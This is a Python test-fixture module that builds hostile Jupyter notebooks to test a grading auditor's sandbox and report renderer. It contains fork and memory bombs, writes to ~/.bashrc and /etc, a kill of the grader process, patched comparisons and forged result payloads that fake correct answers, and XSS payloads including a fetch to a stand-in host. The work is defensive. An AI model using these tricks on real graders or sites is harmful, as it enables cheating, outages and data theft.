"""The hostile notebooks, built in code: one function per case (issue 6).

Notebook cases return an nbformat v4 ``NotebookNode`` (write it with :func:`to_bytes`);
file-level cases (broken files) return raw ``bytes``.  Nothing here runs student code: the
tests hand these to the loader, ``execute_notebook`` or ``auditor.audit``.
"""
from __future__ import annotations

import base64
import json
import zlib
import struct

import nbformat
from nbformat import v4

XSS_SCRIPT = "<script>document.title='pwned';fetch('http://203.0.113.9/steal')</script>"
XSS_ONERROR = "<img src=x onerror=\"document.title='pwned'\">"
# A file name cannot hold "/", so no closing tag: an unclosed <script> is hostile enough.
XSS_FILE_NAME = "<script>alert(1)<img src=x onerror=alert(2)>.ipynb"


def notebook(*cells, kernel: str = "python3", display: str = "Python 3"):
    """Cells are strings (code) or ("markdown", text) / ("code", text) pairs."""
    built = []
    for c in cells:
        kind, text = c if isinstance(c, tuple) else ("code", c)
        built.append(v4.new_markdown_cell(text) if kind == "markdown" else v4.new_code_cell(text))
    nb = v4.new_notebook(cells=built)
    nb.metadata["kernelspec"] = {"name": kernel, "display_name": display, "language": "python"}
    return nb


def to_bytes(nb) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


# --------------------------------------------------------------------------- execution cases

def infinite_loop():
    return notebook("x = 1", "while True:\n    pass", "y = 2")


def busy_c_extension():
    """One long torch call that never returns to the interpreter (SIGINT cannot stop it).

    matrix_power keeps about 60 intermediate matrices for 10**18: 1500x1500 float32 is ~0.5 GB
    (well under the kernel's 2 GiB address space even in a warm kernel that already holds torch)
    and ~800 GFLOP of work, far beyond any cell timeout the tests use."""
    return notebook("import torch\ntorch.set_num_threads(1)\n"
                    "a = torch.randn(1500, 1500, dtype=torch.float32)\n"
                    "b = torch.linalg.matrix_power(a, 10**18)")


def memory_bomb():
    return notebook("blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 2**20))")


def fork_bomb():
    return notebook("import os\nwhile True:\n    os.fork()")


def os_exit():
    return notebook("import os\nos._exit(3)", "after = 1")


def segfault():
    return notebook("import ctypes\nctypes.string_at(0)", "after = 1")


def sys_exit():
    return notebook("import sys\nsys.exit(1)", "after = 1")


def ipython_exit():
    return notebook("exit()", "after = 1")


def reads_input():
    return notebook("name = input('your name? ')")


def huge_output(megabytes: int = 500):
    return notebook(f"line = 'x' * (1 << 20)\nfor _ in range({megabytes}):\n    print(line)", "done = 1")


def deep_recursion():
    return notebook("def f(n):\n    return f(n + 1)\nf(0)", "after = 1")


def writes_outside(canary: str, new_file: str):
    return notebook(
        "import os\nresults = {}\n"
        f"for path in [{canary!r}, {new_file!r}, os.path.expanduser('~/.bashrc'),\n"
        "             '/etc/auditor-escape', '/tmp/auditor-escape', '../escape.txt']:\n"
        "    try:\n"
        "        with open(path, 'a') as f:\n"
        "            f.write('pwned')\n"
        "        results[path] = 'written'\n"
        "    except OSError as e:\n"
        "        results[path] = type(e).__name__\n"
        f"open({canary!r}, 'w').write('pwned')")


def tampers_spec(spec_path: str, project_spec: str | None = None):
    paths = [spec_path] + ([project_spec] if project_spec else [])
    return notebook(
        f"stolen = {{}}\nfor p in {paths!r}:\n"
        "    try:\n"
        "        stolen[p] = open(p).read()\n"
        "    except OSError as e:\n"
        "        stolen[p] = type(e).__name__\n",
        f"for p in {paths!r}:\n"
        "    try:\n"
        "        open(p, 'w').write('key = \"everything is true\"')\n"
        "    except OSError:\n"
        "        pass\n",
        f"open({spec_path!r}, 'w').write('pwned')")


def opens_socket(host: str, port: int):
    return notebook(
        "import socket\nreached = []\n"
        f"for addr in [({host!r}, {port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection(addr, timeout=1).close()\n"
        "        reached.append(addr[0])\n"
        "    except OSError:\n"
        "        pass",
        f"socket.create_connection(({host!r}, {port}), timeout=1)")


def signals_parent(grader_pid: int):
    return notebook(
        "import os, signal\nsent = []\n"
        f"for pid in [os.getppid(), {grader_pid}, 1]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "        sent.append(pid)\n"
        "    except OSError:\n"
        "        pass",
        f"os.kill({grader_pid}, signal.SIGTERM)")


def monkeypatched_allclose():
    """Wrong gradients, with every comparison and serialisation path the student can reach patched."""
    return notebook(
        "import torch, json, numpy\n"
        "grads = torch.tensor([1.0, 2.0, 3.0])\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "json.dumps = lambda *a, **k: '{\"values\": {}}'\n"
        "torch.Tensor.numpy = lambda self, *a, **k: numpy.array([4.0, 5.0, 6.0], dtype='float32')\n"
        "torch.Tensor.detach = lambda self: torch.ones(3)\n"
        "torch.Tensor.__eq__ = lambda self, other: True")


def broken_serializer():
    """The student replaces the kernel's own message serializer: every message it sends from
    then on is the same unreadable bytes (a duplicate signature, no header)."""
    return notebook(
        "x = 1",
        "get_ipython().kernel.session.pack = lambda obj: b'{\"values\": {}}'\n"
        "y = 2",
        "z = 3")


def always_equal():
    return notebook(
        "class AlwaysEqual(int):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n"
        "class Anything:\n"
        "    def __eq__(self, other):\n        return True\n"
        "answer = AlwaysEqual(54)\nshape = Anything()\nplain = 112")


def showtraceback_disabled():
    return notebook(
        "import sys\nip = get_ipython()\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip._showtraceback = lambda *a, **k: None\n"
        "ip.showsyntaxerror = lambda *a, **k: None\n"
        "sys.excepthook = lambda *a: None",
        "1 / 0",
        "undefined_name")


def pip_install():
    return notebook("!pip install definitely-not-a-package\n%pip install -q evil\nx = 1",
                    "  !conda install -y evil", "y = x + 1")


def custom_kernel_name():
    return notebook("import sys\nexe = sys.executable\nx = 41 + 1", kernel="python3-colab-custom",
                    display="Colab Custom")


def many_cells(n: int = 10_000):
    cells = []
    for i in range(n):
        cells.append(f"v{i} = {i}" if i % 100 == 0 else ("markdown", f"note {i}"))
    return notebook(*cells)


def big_image_output(megabytes: int = 50):
    """A cell that displays an image of ``megabytes`` MB (base64 of incompressible bytes)."""
    return notebook(
        "import base64, os\nfrom IPython.display import display\n"
        f"blob = base64.b64encode(os.urandom({megabytes} * 2**20)).decode()\n"
        "display({'image/png': blob}, raw=True)\ndel blob", "after = 1")


def fake_values_payload():
    """Forged values payloads: published after every later execution (so inside the grader's own
    fetch, under its message id) and by a background thread flooding the kernel."""
    return notebook(
        "import threading, time, json\n"
        "from IPython.display import publish_display_data\n"
        "def forge(*args):\n"
        "    publish_display_data({'application/x-auditor-values+json': json.dumps("
        "{'nonce': 'guess', 'values': {'grads': {'kind': 'json', 'value': [9, 9]}}, 'errors': {}})})\n"
        "def spam():\n"
        "    while True:\n"
        "        forge()\n"
        "        time.sleep(0.005)\n"
        "get_ipython().events.register('pre_run_cell', forge)\n"
        "get_ipython().events.register('post_run_cell', forge)\n"
        "threading.Thread(target=spam, daemon=True).start()\n"
        "grads = [1, 2]")


# --------------------------------------------------------------------------- report (XSS) cases

def xss_markdown():
    return notebook(("markdown", f"# Answers\n{XSS_SCRIPT}\n\nThe field is 112. {XSS_ONERROR}\n"
                                 "[click](javascript:alert(1)) ![remote](http://203.0.113.9/x.png)"),
                    "x = 1")


def xss_outputs():
    nb = notebook("print('hello')")
    nb.cells[0].outputs = [
        v4.new_output("stream", name="stdout", text=XSS_SCRIPT + "\n" + XSS_ONERROR),
        v4.new_output("display_data", data={"text/html": XSS_SCRIPT, "text/plain": XSS_ONERROR}),
        v4.new_output("error", ename="<script>alert(1)</script>", evalue=XSS_ONERROR,
                      traceback=[XSS_SCRIPT]),
    ]
    nb.metadata["title"] = XSS_SCRIPT
    nb.metadata["authors"] = [{"name": XSS_ONERROR}]
    return nb


def xss_file_name() -> tuple[str, object]:
    """(hostile file name, notebook): write the notebook under that name."""
    return XSS_FILE_NAME, notebook(("markdown", "# Answers\nNothing special here."), "x = 1")


# --------------------------------------------------------------------------- broken files

def invalid_json() -> bytes:
    return b'{"cells": [ {"cell_type": "code", "source": "x = 1",, } ], "nbformat": 4'


def nbformat3() -> bytes:
    nb = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "old"},
          "worksheets": [{"cells": [
              {"cell_type": "markdown", "source": "# Old notebook\nThe answer is 112."},
              {"cell_type": "code", "input": "x = 112", "language": "python", "outputs": [],
               "collapsed": False, "metadata": {}}], "metadata": {}}]}
    return json.dumps(nb).encode("utf-8")


def empty_file() -> bytes:
    return b""


def non_utf8() -> bytes:
    text = to_bytes(notebook(("markdown", "caf\u00e9 na\u00efve"), "x = 1"))
    return text.replace("caf\u00e9".encode("utf-8"), b"caf\xe9\xff\xfe")


def _png(width: int, height: int, raw: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw, 1)) + chunk(b"IEND", b"")


def embedded_image(megabytes: int = 50):
    """A notebook carrying a ~``megabytes`` MB PNG in a saved output and in markdown."""
    import os
    side = 4096
    rows = (megabytes * 2**20 * 3 // 4) // (side + 1) + 1   # base64 of the PNG is ~megabytes MB
    raw = b"".join(b"\x00" + os.urandom(side) for _ in range(rows))
    png = base64.b64encode(_png(side, rows, raw)).decode("ascii")
    nb = notebook(("markdown", f"# Answers\n![big](data:image/png;base64,{png[:1024]})"),
                  "import matplotlib")
    nb.cells[1].outputs = [v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"})]
    return nb
